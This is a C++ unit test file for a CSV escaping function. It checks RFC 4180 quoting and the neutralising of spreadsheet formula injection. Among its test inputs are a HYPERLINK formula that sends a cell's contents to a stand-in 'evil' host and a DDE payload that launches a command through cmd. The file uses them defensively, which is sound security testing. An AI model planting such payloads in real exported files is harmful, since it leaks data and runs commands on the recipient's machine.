#include "engine/base/text/csv_text.h"

#include <string>

#include <gtest/gtest.h>

namespace tandem {
namespace {

TEST(CsvText, TextIsQuotedAsRfc4180Asks) {
  EXPECT_EQ(CsvText(""), "");
  EXPECT_EQ(CsvText("a b"), "a b");
  EXPECT_EQ(CsvText("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvText("a\"b"), "\"a\"\"b\"");
  EXPECT_EQ(CsvText("a\nb"), "\"a\nb\"");
}

// the signs by which LibreOffice Calc, Excel and Google Sheets know a formula
TEST(CsvText, FormulaOfASpreadsheetStaysText) {
  EXPECT_EQ(CsvText("=1+1"), "'=1+1");
  EXPECT_EQ(CsvText("=HYPERLINK(\"http://evil/\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"");
  EXPECT_EQ(CsvText("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(CsvText("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(CsvText("-2+3"), "'-2+3");
  EXPECT_EQ(CsvText("-"), "'-");
  EXPECT_EQ(CsvText("\t=1"), "'\t=1");
  EXPECT_EQ(CsvText("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvText("  =1"), "'  =1");
  EXPECT_EQ(CsvText("\uFF1D1"), "'\uFF1D1");
}

TEST(CsvText, NumberStaysANumber) {
  for (const char* number : {"-1.5", "+2", "-1e-9", "0", "-inf", "-0.000"}) {
    EXPECT_EQ(CsvText(number), number);
  }
}

}  // namespace
}  // namespace tandem
